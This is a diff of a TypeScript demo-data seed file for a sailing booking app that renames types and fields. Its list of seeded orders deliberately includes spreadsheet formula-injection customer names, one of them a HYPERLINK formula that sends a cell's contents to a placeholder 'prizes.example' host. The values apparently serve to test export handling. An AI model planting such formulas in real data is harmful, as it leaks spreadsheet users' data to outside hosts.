@@ -6,12 +6,12 @@ import { familyOfThree } from '../people/party.ts';
 import type { OpenSailing } from '../sailings/open-sailings.ts';
 import { CHARTER_PLACES } from '../sailings/sailings.ts';
 import { createOrder } from './create-order.ts';
-import type { Trade, Wish } from './draft.ts';
-import { chooseCreation } from './story.ts';
+import type { OrderChoices, OrderContext } from './draft.ts';
+import { chooseCreation } from './order-outcome.ts';
 
 const MINUTE_MS = 60_000;
 
-interface Planned extends Omit<Wish, 'buyer'> {
+interface Planned extends Omit<OrderChoices, 'buyer'> {
   username: string | null;
   daysAhead: number;
   session: Session;
@@ -20,21 +20,21 @@ interface Planned extends Omit<Wish, 'buyer'> {
 }
 
 const family = { username: 'family', pattern: familyOfThree } as const;
-const somebody = { username: null, session: 'daytime', story: 'kept' } as const;
+const somebody = { username: null, session: 'daytime', outcome: 'kept' } as const;
 
 /** Orders in every state for the accounts of the demonstration, a few unpaid ones, and names that spreadsheets trip over. */
 const planned: readonly Planned[] = [
-  { ...family, daysAhead: 8, session: 'nighttime', story: 'kept', withCabin: true },
-  { ...family, daysAhead: -19, session: 'daytime', story: 'kept' },
-  { ...family, daysAhead: 75, session: 'nighttime', story: 'canceled', withCabin: true },
-  { ...family, daysAhead: 41, session: 'daytime', story: 'partly' },
-  { ...family, daysAhead: 16, session: 'daytime', story: 'expired' },
-  { ...family, daysAhead: 23, session: 'nighttime', story: 'held', withCabin: true, minutesAgo: 2 },
-  { username: 'jisoo', daysAhead: 13, session: 'nighttime', story: 'kept', withCabin: true },
-  { username: 'jisoo', daysAhead: -33, session: 'daytime', story: 'kept' },
-  { username: 'meilin', daysAhead: 6, session: 'daytime', story: 'held', minutesAgo: 4 },
-  { username: null, daysAhead: 3, session: 'nighttime', story: 'held', minutesAgo: 1 },
-  { username: null, daysAhead: 11, session: 'daytime', story: 'held', minutesAgo: 6 },
+  { ...family, daysAhead: 8, session: 'nighttime', outcome: 'kept', withCabin: true },
+  { ...family, daysAhead: -19, session: 'daytime', outcome: 'kept' },
+  { ...family, daysAhead: 75, session: 'nighttime', outcome: 'canceled', withCabin: true },
+  { ...family, daysAhead: 41, session: 'daytime', outcome: 'partly' },
+  { ...family, daysAhead: 16, session: 'daytime', outcome: 'expired' },
+  { ...family, daysAhead: 23, session: 'nighttime', outcome: 'held', withCabin: true, minutesAgo: 2 },
+  { username: 'jisoo', daysAhead: 13, session: 'nighttime', outcome: 'kept', withCabin: true },
+  { username: 'jisoo', daysAhead: -33, session: 'daytime', outcome: 'kept' },
+  { username: 'meilin', daysAhead: 6, session: 'daytime', outcome: 'held', minutesAgo: 4 },
+  { username: null, daysAhead: 3, session: 'nighttime', outcome: 'held', minutesAgo: 1 },
+  { username: null, daysAhead: 11, session: 'daytime', outcome: 'held', minutesAgo: 6 },
   { ...somebody, daysAhead: -5, name: '=HYPERLINK("https://prizes.example/?"&A2,"Claim your prize")' },
   { ...somebody, daysAhead: -9, name: '+60123456789' },
   { ...somebody, daysAhead: 18, name: '@SUM(A1:A9)' },
@@ -45,29 +45,29 @@ const planned: readonly Planned[] = [
 
 /** Makes the planned orders, and fills the sailings that a company has taken most of. */
 export function createDemonstrationOrders(
-  trade: Trade,
+  context: OrderContext,
   batch: OrderBatch,
   sailings: readonly OpenSailing[],
   now: Date,
 ): void {
-  for (const { username, daysAhead, session, minutesAgo = 0, ...wish } of planned) {
-    const sailing = sailingNear(trade, sailings, daysAhead, session);
+  for (const { username, daysAhead, session, minutesAgo = 0, ...choices } of planned) {
+    const sailing = sailingNear(context, sailings, daysAhead, session);
     const createdAt =
-      wish.story === 'held'
+      choices.outcome === 'held'
         ? new Date(now.getTime() - minutesAgo * MINUTE_MS)
-        : chooseCreation(trade.random, sailing, trade.today);
-    createOrder(trade, batch, { sailing, createdAt }, { ...wish, buyer: buyerFor(trade, username) });
+        : chooseCreation(context.random, sailing, context.today);
+    createOrder(context, batch, { sailing, createdAt }, { ...choices, buyer: buyerFor(context, username) });
   }
   for (const sailing of sailings) {
     if (sailing.capacity !== CHARTER_PLACES) continue;
     while (sailing.placesLeft > 0) {
-      const createdAt = chooseCreation(trade.random, sailing, trade.today);
-      createOrder(trade, batch, { sailing, createdAt }, { story: 'kept', withCabin: false });
+      const createdAt = chooseCreation(context.random, sailing, context.today);
+      createOrder(context, batch, { sailing, createdAt }, { outcome: 'kept', withCabin: false });
     }
   }
 }
 
-function buyerFor({ people, settings }: Trade, username: string | null): Buyer {
+function buyerFor({ people, settings }: OrderContext, username: string | null): Buyer {
   const { houseReferralCode } = settings;
   if (username) return buyerOf(customerNamed(people, username), houseReferralCode);
   return {
@@ -81,7 +81,7 @@ function buyerFor({ people, settings }: Trade, username: string | null): Buyer {
 
 /** The ordinary sailing of a session that is nearest to so many days from today. */
 function sailingNear(
-  { today }: Trade,
+  { today }: OrderContext,
   sailings: readonly OpenSailing[],
   daysAhead: number,
   session: Session,
